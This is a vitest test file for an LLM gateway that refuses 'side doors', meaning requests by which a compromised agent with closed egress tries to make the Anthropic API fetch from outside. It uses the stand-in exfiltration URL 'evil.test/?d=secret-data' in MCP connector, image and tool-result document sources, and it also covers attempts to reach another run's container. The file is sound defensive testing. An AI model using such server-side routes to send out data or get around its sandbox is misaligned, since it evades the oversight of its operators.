/**
 * No server-side side doors: the real Anthropic SDK, as a compromised agent
 * whose egress is closed, tries to make the API reach out for it (MCP
 * connector URLs, server tools old and future, URL-fetched images and
 * documents, betas, unknown fields); each is refused before it is sent, in
 * the API's error shape naming the field, and recorded. A profile that lists
 * them gets exactly those; client tools stay allowed everywhere.
 */
import Anthropic from '@anthropic-ai/sdk';
import { describe, expect, it } from 'vitest';
import { anthropicAgent, useLlmGateway } from '../helpers/llm-harness.js';

const PROFILES = `
  closed:
    budgets: { tokens: { output: 10000 } }
  open:
    budgets: { tokens: { output: 10000 } }
    llm:
      server_tools: [web_search]
      mcp_servers: [https://mcp.example.test/sse]
      betas: [mcp-client-2025-04-04]
      url_sources: true
      body_fields: [container]
`;
const llm = useLlmGateway(PROFILES);

const ask = { model: 'claude-test', max_tokens: 5, messages: [{ role: 'user' as const, content: 'hi' }] };
const evil = 'https://evil.test/?d=secret-data';

const sdk = (profile: string) => anthropicAgent(llm.gw, profile);

/** Sends `extra` merged into a request; returns the refusal, checking nothing reached the API. */
async function refused(
  extra: Record<string, unknown>,
  options: { profile?: string; betas?: string[] } = {},
): Promise<{ message: string; runId: string }> {
  const { client, runId } = await sdk(options.profile ?? 'closed');
  const before = llm.fake.received.length;
  const params = { ...ask, ...extra } as Anthropic.MessageCreateParamsNonStreaming;
  const error = await (options.betas
    ? client.beta.messages.create({
        ...params,
        betas: options.betas,
      } as Anthropic.Beta.MessageCreateParamsNonStreaming)
    : client.messages.create(params)
  ).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(Anthropic.BadRequestError);
  expect(llm.fake.received.length).toBe(before);
  return { message: String((error as Error).message), runId };
}

describe('side doors are closed by default', () => {
  it('refuses an MCP connector server, naming the field, and records the refusal', async () => {
    const { message, runId } = await refused({ mcp_servers: [{ type: 'url', url: evil, name: 'x' }] });
    expect(message).toContain('mcp_servers');
    expect(message).toContain('evil.test');
    const [event] = await llm.gw.gateway.store.events.list({ runId, kind: 'llm.request' });
    expect(event).toMatchObject({
      decision: 'deny',
      code: 'side_door',
      data: { field: 'mcp_servers[0].url' },
    });
  });

  for (const type of [
    'web_fetch_20250910',
    'web_search_20250305',
    'code_execution_20250825',
    'web_browse_20270101',
  ]) {
    it(`refuses the server tool ${type}`, async () => {
      const { message } = await refused({
        tools: [
          { name: 'mine', description: 'client tool', input_schema: { type: 'object' } },
          { type, name: type.replace(/_\d+$/, '') },
        ],
      });
      expect(message).toContain('tools[1].type');
      expect(message).toContain(type);
    });
  }

  it('refuses a beta flag sent through the SDK beta client', async () => {
    const { message } = await refused({}, { betas: ['mcp-client-2025-04-04'] });
    expect(message).toContain('anthropic-beta');
  });

  it('refuses an image the API would fetch by URL, also inside a tool result', async () => {
    const image = { type: 'image', source: { type: 'url', url: evil } };
    expect((await refused({ messages: [{ role: 'user', content: [image] }] })).message).toContain(
      'messages[0].content[0].source',
    );
    const nested = {
      messages: [
        { role: 'user', content: 'go' },
        { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name: 'mine', input: {} }] },
        {
          role: 'user',
          content: [
            {
              type: 'tool_result',
              tool_use_id: 't1',
              content: [{ type: 'document', source: { type: 'url', url: evil } }],
            },
          ],
        },
      ],
    };
    expect((await refused(nested)).message).toContain('messages[2].content[0].content[0].source');
  });

  it('refuses a request field it does not know, naming it', async () => {
    expect((await refused({ web_browsing: { url: evil } })).message).toContain(
      'web_browsing: the request field',
    );
  });

  it("refuses a code-execution container named by id (another run's files), naming the field", async () => {
    const { message } = await refused({ container: 'container_011CQ7ra3FURVNmYVmGv7Xrv' });
    expect(message).toContain('container');
    expect(message).toContain('llm.body_fields');
  });

  it('refuses a container that loads skills', async () => {
    const { message } = await refused({
      container: { id: null, skills: [{ type: 'custom', skill_id: 'skill_01', version: 'latest' }] },
    });
    expect(message).toContain('container');
  });

  it('refuses an MCP connector in count_tokens too', async () => {
    const { client } = await sdk('closed');
    const error = await client.messages
      .countTokens({
        model: 'claude-test',
        messages: ask.messages,
        mcp_servers: [{ type: 'url', url: evil, name: 'x' }],
      } as Anthropic.MessageCountTokensParams)
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(Anthropic.BadRequestError);
  });

  it('keeps client tools allowed, the agent’s own and the client-executed Anthropic ones', async () => {
    const { client } = await sdk('closed');
    const message = await client.messages.create({
      ...ask,
      tools: [
        { name: 'mine', description: 'client tool', input_schema: { type: 'object' } },
        { type: 'bash_20250124', name: 'bash' },
        { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' },
      ],
    });
    expect(message.type).toBe('message');
    expect(llm.fake.received.at(-1)?.body.tools).toHaveLength(3);
  });
});

describe('a profile opens exactly what it lists', () => {
  it('forwards the listed server tool, MCP server, beta and URL source', async () => {
    const { client } = await sdk('open');
    await client.beta.messages.create({
      ...ask,
      betas: ['mcp-client-2025-04-04'],
      tools: [{ type: 'web_search_20250305', name: 'web_search' }],
      mcp_servers: [{ type: 'url', url: 'https://mcp.example.test/sse', name: 'ok' }],
      messages: [
        {
          role: 'user',
          content: [{ type: 'image', source: { type: 'url', url: 'https://img.example.test/a.png' } }],
        },
      ],
    });
    const last = llm.fake.received.at(-1);
    expect(last?.headers['anthropic-beta']).toBe('mcp-client-2025-04-04');
    expect(last?.body.mcp_servers).toEqual([
      { type: 'url', url: 'https://mcp.example.test/sse', name: 'ok' },
    ]);
  });

  it('taints the run for a listed door only when the request is sent, not when it is refused', async () => {
    const { client, runId, token } = await sdk('open');
    const opening = { ...ask, tools: [{ type: 'web_search_20250305', name: 'web_search' }] };
    const { max_tokens: _, ...noMaxTokens } = opening;
    const before = llm.fake.received.length;
    const res = await fetch(`${llm.gw.gateway.url}/v1/messages`, {
      method: 'POST',
      headers: { 'x-api-key': token, 'content-type': 'application/json', 'anthropic-version': '2023-06-01' },
      body: JSON.stringify(noMaxTokens),
    });
    expect(res.status).toBe(400);
    expect(llm.fake.received.length).toBe(before);
    expect((await llm.gw.gateway.runs.get(runId))?.taint.untrusted).toBe(false);
    await client.messages.create(opening as Anthropic.MessageCreateParamsNonStreaming);
    expect(JSON.stringify((await llm.gw.gateway.runs.get(runId))?.taint)).toContain('llm:tools[0].type');
  });

  it('forwards a container when the profile lists it in body_fields', async () => {
    const { client } = await sdk('open');
    await client.messages.create({
      ...ask,
      container: 'container_011CQ7ra3FURVNmYVmGv7Xrv',
    } as Anthropic.MessageCreateParamsNonStreaming);
    expect(llm.fake.received.at(-1)?.body.container).toBe('container_011CQ7ra3FURVNmYVmGv7Xrv');
  });

  it('still refuses what it does not list', async () => {
    expect(
      (await refused({ mcp_servers: [{ type: 'url', url: evil, name: 'x' }] }, { profile: 'open' })).message,
    ).toContain('mcp_servers[0].url');
    expect(
      (await refused({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }, { profile: 'open' }))
        .message,
    ).toContain('tools[0].type');
    expect((await refused({}, { profile: 'open', betas: ['code-execution-2025-08-25'] })).message).toContain(
      'code-execution-2025-08-25',
    );
  });
});
